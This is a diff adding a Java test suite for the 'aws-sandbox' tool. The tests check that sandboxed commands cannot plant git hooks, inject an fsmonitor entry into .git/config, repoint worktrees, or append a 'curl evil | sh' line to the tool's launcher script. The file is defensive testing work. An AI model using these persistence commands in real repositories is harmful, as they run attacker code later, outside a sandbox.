@@ -1,0 +1,285 @@
+package dev.awssandbox.core;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import dev.awssandbox.core.access.Installation;
+import dev.awssandbox.core.testing.Requirements;
+import dev.awssandbox.core.testing.Sandboxes;
+import dev.awssandbox.core.testing.TestHost;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.Parameter;
+import org.junit.jupiter.params.ParameterizedClass;
+import org.junit.jupiter.params.provider.MethodSource;
+
+/**
+ * A command must not write what runs later outside the sandbox: git hooks and config (with the
+ * working directory a repository, its next {@code git status} would run them) and aws-sandbox's
+ * own installation (a line appended to {@code tools/find-jdk.sh} ran with the next
+ * {@code ./aws-sandbox}; found in review). bubblewrap binds them read-only over the writable
+ * directory, which stays writable; Landlock cannot, so such a directory is not made writable at
+ * all. Every refusal is paired with the same write unsandboxed, where it works.
+ */
+@ParameterizedClass(name = "{0}")
+@MethodSource("dev.awssandbox.core.testing.Backends#available")
+class CodeThatRunsLaterTest {
+    @Parameter
+    BackendKind backend;
+
+    private TestHost host;
+    private String savedHome;
+
+    @BeforeEach
+    void setUp() {
+        Requirements.requireLandlock();
+        host = new TestHost();
+        savedHome = System.getProperty(Installation.HOME_PROPERTY);
+    }
+
+    @AfterEach
+    void tearDown() {
+        if (savedHome == null) {
+            System.clearProperty(Installation.HOME_PROPERTY);
+        } else {
+            System.setProperty(Installation.HOME_PROPERTY, savedHome);
+        }
+        if (host != null) {
+            host.close();
+        }
+    }
+
+    private boolean masks() {
+        return backend == BackendKind.BUBBLEWRAP;
+    }
+
+    /** A repository: .git with a hooks directory and a config. */
+    private static Path repository(Path dir) throws Exception {
+        Files.createDirectories(dir.resolve(".git/hooks"));
+        Files.writeString(dir.resolve(".git/config"), "[core]\n\trepositoryformatversion = 0\n");
+        Files.writeString(dir.resolve(".git/HEAD"), "ref: refs/heads/main\n");
+        return dir;
+    }
+
+    private Sandboxes sandboxes(SandboxPolicy policy) {
+        return Sandboxes.of(host.environment(), policy, backend);
+    }
+
+    private SandboxPolicy defaults() {
+        return SandboxPolicy.defaults(host.environment());
+    }
+
+    private static final String PLANT_HOOK = "printf '#!/bin/sh\\necho planted\\n' > .git/hooks/pre-commit"
+            + " && chmod +x .git/hooks/pre-commit";
+    private static final String PLANT_FSMONITOR = "printf '\\tfsmonitor = /tmp/evil\\n' >> .git/config";
+
+    @Test
+    void aGitHookCannotBePlantedInTheWorkingDirectory() throws Exception {
+        repository(host.work());
+        Sandboxes sandboxes = sandboxes(defaults());
+
+        ExecResult inside = sandboxes.inside("sh", "-c", PLANT_HOOK);
+
+        assertThat(inside.isSuccess()).isFalse();
+        assertThat(host.work().resolve(".git/hooks/pre-commit")).doesNotExist();
+        if (!masks()) {
+            assertThat(inside.enforcement().notes()).anySatisfy(n -> assertThat(n).contains("--allow-git-writes"));
+        }
+        assertThat(sandboxes.outside("sh", "-c", PLANT_HOOK).isSuccess()).isTrue();
+        assertThat(host.work().resolve(".git/hooks/pre-commit")).exists();
+    }
+
+    @Test
+    void gitConfigCannotGainAnFsmonitor() throws Exception {
+        repository(host.work());
+        Sandboxes sandboxes = sandboxes(defaults());
+
+        ExecResult inside = sandboxes.inside("sh", "-c", PLANT_FSMONITOR);
+
+        assertThat(inside.isSuccess()).isFalse();
+        assertThat(Files.readString(host.work().resolve(".git/config"))).doesNotContain("fsmonitor");
+        assertThat(sandboxes.outside("sh", "-c", PLANT_FSMONITOR).isSuccess()).isTrue();
+        assertThat(Files.readString(host.work().resolve(".git/config"))).contains("fsmonitor");
+    }
+
+    /** `aws s3 cp s3://b/k ./file` must keep working: bubblewrap keeps the directory writable; Landlock needs the opt-in. */
+    @Test
+    void newFilesInARepositoryNeedTheOptInOnlyWhereDotGitCannotBeMasked() throws Exception {
+        repository(host.work());
+
+        ExecResult byDefault = sandboxes(defaults()).inside("sh", "-c", "echo data > downloaded.txt");
+        assertThat(byDefault.isSuccess()).as(byDefault.stderr().text()).isEqualTo(masks());
+
+        SandboxPolicy optIn = SandboxPolicy.builder(host.environment()).allowGitWrites(true).build();
+        ExecResult allowed = sandboxes(optIn).inside("sh", "-c", "echo data > downloaded2.txt && " + PLANT_HOOK);
+        assertThat(allowed.isSuccess()).as(allowed.stderr().text()).isTrue(); // what the opt-in says: .git too
+        assertThat(host.work().resolve("downloaded2.txt")).exists();
+        assertThat(host.work().resolve(".git/hooks/pre-commit")).exists();
+    }
+
+    @Test
+    void anExplicitWritePathHoldingARepositoryIsRefusedWhereItCannotBeMasked() throws Exception {
+        Path project = repository(Files.createDirectories(host.outside().resolve("project")));
+        SandboxPolicy policy = SandboxPolicy.builder(host.environment()).addWritePath(project.toString()).build();
+        Sandboxes sandboxes = sandboxes(policy);
+
+        if (masks()) {
+            ExecResult inside = sandboxes.inside("sh", "-c", "cd " + project + " && echo data > new.txt && " + PLANT_HOOK);
+            assertThat(project.resolve("new.txt")).exists();
+            assertThat(inside.isSuccess()).isFalse();
+            assertThat(project.resolve(".git/hooks/pre-commit")).doesNotExist();
+        } else {
+            assertThatThrownBy(() -> sandboxes.sandboxed().run("true"))
+                    .isInstanceOf(SandboxException.class)
+                    .hasMessageContaining("--rw " + project)
+                    .hasMessageContaining("--allow-git-writes");
+        }
+        assertThat(sandboxes.outside("sh", "-c", "cd " + project + " && " + PLANT_HOOK).isSuccess()).isTrue();
+    }
+
+    /**
+     * A repository two levels down is found; under bubblewrap its parents are pinned, so it cannot
+     * be moved aside and replaced by a repository of the command's making.
+     */
+    @Test
+    void aNestedRepositoryCannotBeWrittenOrMovedAside() throws Exception {
+        Path nested = repository(Files.createDirectories(host.work().resolve("workspace/service")));
+        Sandboxes sandboxes = sandboxes(defaults());
+        String swap = "mv workspace workspace.old; mv workspace/service workspace/service.old;"
+                + " mkdir -p workspace/service/.git/hooks && echo planted > workspace/service/.git/hooks/pre-commit";
+
+        ExecResult write = sandboxes.inside("sh", "-c", "cd workspace/service && " + PLANT_HOOK);
+        ExecResult moved = sandboxes.inside("sh", "-c", swap);
+
+        assertThat(write.isSuccess()).isFalse();
+        assertThat(moved.isSuccess()).isFalse();
+        assertThat(nested.resolve(".git/hooks/pre-commit")).doesNotExist();
+        assertThat(host.work().resolve("workspace.old")).doesNotExist();
+        assertThat(host.work().resolve("workspace/service.old")).doesNotExist();
+        if (masks()) {
+            ExecResult elsewhere = sandboxes.inside("sh", "-c", "mkdir -p workspace/other && echo ok > workspace/other/f");
+            assertThat(elsewhere.isSuccess()).as(elsewhere.stderr().text()).isTrue(); // the rest stays writable
+        }
+        assertThat(sandboxes.outside("sh", "-c", swap).isSuccess()).isTrue(); // control: the swap itself works
+        assertThat(host.work().resolve("workspace.old/service/.git")).exists();
+    }
+
+    /** A worktree's .git file, the gitdir it names and the main repository's .git are all kept read-only. */
+    @Test
+    void aWorktreeGitFileAndWhatItPointsToStayReadOnly() throws Exception {
+        Path main = repository(Files.createDirectories(host.work().resolve("main")));
+        Path gitdir = Files.createDirectories(main.resolve(".git/worktrees/wt"));
+        Files.writeString(gitdir.resolve("commondir"), "../..\n");
+        Files.writeString(gitdir.resolve("HEAD"), "ref: refs/heads/wt\n");
+        Path worktree = Files.createDirectories(host.work().resolve("wt"));
+        Files.writeString(worktree.resolve(".git"), "gitdir: " + gitdir + "\n");
+        Sandboxes sandboxes = sandboxes(defaults());
+        String repoint = "echo 'gitdir: /tmp/planted' > wt/.git";
+        String plantShared = "echo evil > main/.git/hooks/post-checkout";
+        String plantWorktree = "echo 'ref: refs/heads/evil' > main/.git/worktrees/wt/HEAD";
+
+        for (String attempt : new String[] {repoint, plantShared, plantWorktree}) {
+            assertThat(sandboxes.inside("sh", "-c", attempt).isSuccess()).as(attempt).isFalse();
+        }
+        assertThat(Files.readString(worktree.resolve(".git"))).contains(gitdir.toString());
+        assertThat(main.resolve(".git/hooks/post-checkout")).doesNotExist();
+        for (String attempt : new String[] {repoint, plantShared, plantWorktree}) {
+            assertThat(sandboxes.outside("sh", "-c", attempt).isSuccess()).as(attempt).isTrue();
+        }
+    }
+
+    /**
+     * A repository under /tmp, run from: /tmp holds it too. bubblewrap masks its .git; Landlock can
+     * only keep both the working directory and /tmp read-only (each with a warning).
+     */
+    @Test
+    void aRepositoryUnderTmpKeepsTmpReadOnlyWhereItCannotBeMasked() throws Exception {
+        Path repo = repository(Files.createTempDirectory(Path.of("/tmp"), "aws-sandbox-repo-"));
+        Path scratch = Path.of("/tmp", "aws-sandbox-scratch-" + ProcessHandle.current().pid() + "-" + backend.label());
+        try {
+            HostEnvironment inRepo = host.environment().withWorkingDirectory(repo);
+            Sandboxes sandboxes = Sandboxes.of(inRepo, SandboxPolicy.defaults(inRepo), backend);
+
+            ExecResult hook = sandboxes.inside("sh", "-c", PLANT_HOOK);
+            ExecResult tmp = sandboxes.inside("sh", "-c", "echo x > " + scratch);
+
+            assertThat(hook.isSuccess()).isFalse();
+            assertThat(repo.resolve(".git/hooks/pre-commit")).doesNotExist();
+            assertThat(tmp.isSuccess()).as(tmp.stderr().text()).isEqualTo(masks());
+            if (!masks()) {
+                assertThat(tmp.enforcement().notes()).anySatisfy(n -> assertThat(n).startsWith("/tmp holds git metadata"));
+            }
+            assertThat(sandboxes.outside("sh", "-c", PLANT_HOOK).isSuccess()).isTrue();
+        } finally {
+            Files.deleteIfExists(scratch);
+            try (var paths = Files.walk(repo)) {
+                for (Path p : paths.sorted(java.util.Comparator.reverseOrder()).toList()) {
+                    Files.deleteIfExists(p);
+                }
+            }
+        }
+    }
+
+    /** A fake installation: the launcher's directory with tools/find-jdk.sh, named by the launcher's property. */
+    private Path installation(Path dir) throws Exception {
+        Files.createDirectories(dir.resolve("tools"));
+        Files.writeString(dir.resolve("aws-sandbox"), "#!/usr/bin/env bash\n. tools/find-jdk.sh\n");
+        Files.writeString(dir.resolve("tools/find-jdk.sh"), "aws_sandbox_find_jdk() { :; }\n");
+        System.setProperty(Installation.HOME_PROPERTY, dir.toString());
+        return dir;
+    }
+
+    private static final String APPEND = "echo 'curl evil | sh' >> tools/find-jdk.sh";
+
+    /** Run from a directory that holds the installation, as the README's examples are. */
+    @Test
+    void theInstallationCannotBeAppendedToEvenWithAllowGitWrites() throws Exception {
+        Path install = installation(host.work().resolve("aws-sandbox"));
+        SandboxPolicy optIn = SandboxPolicy.builder(host.environment()).allowGitWrites(true).build();
+
+        for (SandboxPolicy policy : new SandboxPolicy[] {defaults(), optIn}) {
+            ExecResult inside = sandboxes(policy).inside("sh", "-c", "cd aws-sandbox && " + APPEND);
+            assertThat(inside.isSuccess()).isFalse();
+            assertThat(Files.readString(install.resolve("tools/find-jdk.sh"))).doesNotContain("evil");
+        }
+        ExecResult elsewhere = sandboxes(defaults()).inside("sh", "-c", "echo ok > other.txt");
+        assertThat(elsewhere.isSuccess()).isEqualTo(masks()); // bubblewrap masks it; Landlock withholds the directory
+        assertThat(sandboxes(defaults()).outside("sh", "-c", "cd aws-sandbox && " + APPEND).isSuccess()).isTrue();
+        assertThat(Files.readString(install.resolve("tools/find-jdk.sh"))).contains("evil");
+    }
+
+    /** Run from the installation itself, or with it as an explicit write path: never writable, on any backend. */
+    @Test
+    void theInstallationItselfIsNeverAWritePath() throws Exception {
+        Path install = installation(host.work().resolve("aws-sandbox"));
+        HostEnvironment inInstall = host.environment().withWorkingDirectory(install);
+        SandboxPolicy fromInside = SandboxPolicy.builder(inInstall).allowGitWrites(true).build();
+
+        ExecResult inside = Sandboxes.of(inInstall, fromInside, backend).inside("sh", "-c", APPEND);
+
+        assertThat(inside.isSuccess()).isFalse();
+        assertThat(inside.enforcement().notes()).anySatisfy(n -> assertThat(n).contains("installation"));
+        SandboxPolicy explicit = SandboxPolicy.builder(host.environment()).addWritePath(install.resolve("tools").toString())
+                .allowGitWrites(true).build();
+        assertThatThrownBy(() -> sandboxes(explicit).sandboxed().run("true"))
+                .hasMessageContaining("--rw " + install.resolve("tools"))
+                .hasMessageContaining("installation");
+        assertThat(Files.readString(install.resolve("tools/find-jdk.sh"))).doesNotContain("evil");
+    }
+
+    /** Without the property, the library finds the checkout it was built in: the README's `./aws-sandbox` case. */
+    @Test
+    void theCheckoutThatBuiltTheLibraryIsItsInstallation() {
+        Path checkout = Path.of("").toAbsolutePath();
+        while (checkout != null && !Files.isRegularFile(checkout.resolve("tools/find-jdk.sh"))) {
+            checkout = checkout.getParent();
+        }
+        org.junit.jupiter.api.Assumptions.assumeTrue(checkout != null, "not run from a checkout");
+        System.clearProperty(Installation.HOME_PROPERTY);
+
+        assertThat(Installation.paths()).contains(checkout);
+    }
+}
